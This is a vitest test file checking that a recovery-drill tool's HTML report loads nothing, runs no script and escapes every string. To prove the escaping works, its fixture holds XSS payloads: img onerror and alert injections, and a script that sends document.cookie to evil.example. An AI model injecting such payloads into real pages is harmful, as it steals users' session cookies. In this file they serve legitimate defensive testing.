/**
 * report.html from a record: self-contained (a CSP that loads nothing, no script), every string from a
 * plan, a service or a log escaped, the statuses written as words, the timeline's bars on one axis with
 * the goal and the critical path. (A real browser opening it is #19's next part.)
 */
import { describe, expect, it } from 'vitest';
import type { DrillRecord } from '../../src/model/record.js';
import { esc, renderHtml, REPORT_CSP } from '../../src/outputs/html.js';
import { OUTPUTS } from '../../src/outputs/index.js';
import { recordOf } from '../helpers/reports.js';

const at = (ms: number) => new Date(Date.parse('2026-12-01T03:00:00.000Z') + ms).toISOString();

function failedDrill(): DrillRecord {
  const base = recordOf({ plan: 'demo', host: 'gpu-07', startedAt: at(0), tag: 'v1.3<img src=x onerror=alert(1)>', verdict: 'failed', rto: { fetchMs: 4000, verifyMs: 200, installMs: 6000, startMs: 1500, recoveryMs: 9000, goalMs: 8000, totalMs: 12000, criticalPath: ['fetch', 'install', 'start', 'assert'] } }, [
    {
      status: 'failed',
      name: 'mandarin <b>sample</b>',
      api: 'gradio',
      expected: '欢迎使用Whisper服务',
      actual: '<script>fetch("https://evil.example/"+document.cookie)</script>',
      normalizedExpected: '欢迎使用whisper服务',
      normalizedActual: '<script>欢迎使用whisper</script>',
      cer: 0.9,
      passed: false,
      required: true,
      latencyMs: 130,
      detail: 'CER 0.900 > 0.1',
    },
  ]);
  return {
    ...base,
    verdictReasons: ['assert failed'],
    signOff: { operator: 'Dana "Ops" <dana@example>', notes: 'Q4 drill\nticket OPS-42' },
    steps: [
      { id: 'environment', status: 'passed', startedAt: at(0), durationMs: 300, summary: '4/4 checks passed', evidence: {} },
      { id: 'snapshot', status: 'passed', startedAt: at(300), durationMs: 200, summary: 'v1.3', evidence: {} },
      { id: 'fetch', status: 'passed', startedAt: at(500), durationMs: 4000, summary: '3 LFS objects', evidence: {} },
      { id: 'install', status: 'passed', startedAt: at(900), durationMs: 6000, summary: '2 command(s)', evidence: {} },
      { id: 'verify', status: 'passed', startedAt: at(4500), durationMs: 200, summary: '3 files', evidence: {} },
      { id: 'start', status: 'passed', startedAt: at(6900), durationMs: 1500, summary: 'ready', evidence: {} },
      { id: 'assert', status: 'failed', startedAt: at(8400), durationMs: 400, summary: '0/1 passed', error: { message: 'x', hint: 'look at </td><script>alert(2)</script>' }, evidence: {} },
      { id: 'teardown', status: 'passed', startedAt: at(8800), durationMs: 100, summary: 'stopped', evidence: {} },
    ],
    environment: { checks: [{ id: 'python', title: 'Python', status: 'passed', measured: 'python3 3.11.7', required: '>=3.9' }], facts: {} },
    lfs: { files: [{ path: 'models/large-v3.pt', oid: 'a'.repeat(64), size: 64 << 20, verified: true }] as DrillRecord['lfs']['files'] },
  };
}

describe('report.html', () => {
  it('is one of the outputs every drill writes', () => {
    expect(OUTPUTS.map((output) => output.file)).toContain('report.html');
  });

  it('loads nothing and runs nothing: a CSP of default-src none, no script element, every string escaped', () => {
    const html = renderHtml(failedDrill());
    expect(html).toContain(`<meta http-equiv="Content-Security-Policy" content="${REPORT_CSP}">`);
    expect(REPORT_CSP.startsWith("default-src 'none'")).toBe(true);
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/<img/i);
    expect(html).not.toContain('<b>sample</b>');
    // The service's words are text on the page
    expect(html).toContain('&lt;script&gt;');
    expect(html).toContain(esc('Dana "Ops" <dana@example>'));
    // No element carries a source, a link or a handler: the tag's `<img src=x onerror=…>` is text.
    expect(html).not.toMatch(/<[a-z][^>]*\s(?:src|href|on[a-z]+)=/i);
    expect(html).toContain('v1.3&lt;img src=x onerror=alert(1)&gt;');
  });

  it('says the verdict, the plan, the tag, the node, the sign-off and the recovery against its goal at the top', () => {
    const html = renderHtml(failedDrill());
    const header = html.slice(html.indexOf('<header>'), html.indexOf('</header>'));
    expect(header).toContain('✖ FAILED</span> — assert failed');
    expect(header).toContain('gpu-07');
    expect(header).toContain('Dana &quot;Ops&quot; &lt;dana@example&gt;<br><q>Q4 drill<br>ticket OPS-42</q>');
    expect(header).toContain('9.0 s from fetch to the first correct transcript (goal 8.0 s: missed)');
  });

  it('draws a bar per step on one axis, the goal as a line, the critical path outlined', () => {
    const html = renderHtml(failedDrill());
    const svg = html.slice(html.indexOf('<svg'), html.indexOf('</svg>'));
    expect(svg.match(/<rect /g)).toHaveLength(8);
    expect(svg.match(/stroke="#24292f" stroke-width="2"/g)).toHaveLength(4);
    expect(svg).toContain('goal 8.0 s');
    expect(svg).toContain('<title>install: passed, 6.0 s, on the critical path</title>');
  });

  it('writes every status as a word, and marks what a failed transcript lacks and adds', () => {
    const html = renderHtml(failedDrill());
    expect(html).toMatch(/✖ failed<\/span> CER 0\.900 &gt; 0\.1/);
    expect(html).toContain('✔ yes');
    expect(html).toMatch(/<ins title="extra">&lt;script&gt;<\/ins>/);
    expect(html).toMatch(/<del title="missing">服务<\/del>/);
  });

  it('shows each phase against the median of the last drills, GPU memory per process, and the service\'s last lines after a failure', () => {
    const base = failedDrill();
    const record: DrillRecord = {
      ...base,
      changes: { since: { startedAt: at(-86_400_000), tag: 'v1.2', commit: null, verdict: 'passed', reportDir: '/r/x' }, tag: { from: 'v1.2', to: 'v1.3' }, files: [], unchangedFiles: [], rto: [{ phase: 'installMs', fromMs: 5000, toMs: 6000, medianMs: 4000 }, { phase: 'fetchMs', fromMs: 4000, toMs: 4000 }], environmentDrift: null },
      assertions: [...base.assertions, { status: 'passed', name: 'model resident on GPU', api: 'nvidia-smi', expected: '8000–12000 MiB', actual: '10240 MiB', cer: null, passed: true, required: true, latencyMs: null, detail: 'in range', gpuProcesses: [{ pid: 4242, processName: 'python3', gpu: 0, usedMiB: 10240, holder: 'service' }, { pid: 77, processName: 'Xorg', gpu: 0, usedMiB: null, holder: 'other' }] }],
      service: { log: '/w/.whisper-drill/service.log', leftRunning: null, logTail: ['Loading model large-v3', 'RuntimeError: <CUDA out of memory>'] },
    };
    const html = renderHtml(record);
    expect(html).toContain('<td>install</td><td><span class="status" style="color:#1a7f37">✔ passed</span></td><td>6.0 s</td><td>+50 % (median 4.0 s)</td>');
    expect(html).toContain('<h3>GPU memory per process</h3>');
    expect(html).toContain('<td>4242</td><td>python3</td><td>0</td><td>10240 MiB</td><td>service</td>');
    expect(html).toContain('<td>77</td><td>Xorg</td><td>0</td><td>N/A</td><td>other</td>');
    expect(html).toContain("<h2>The service&#39;s last log lines</h2><pre>Loading model large-v3\nRuntimeError: &lt;CUDA out of memory&gt;</pre>");
  });
});
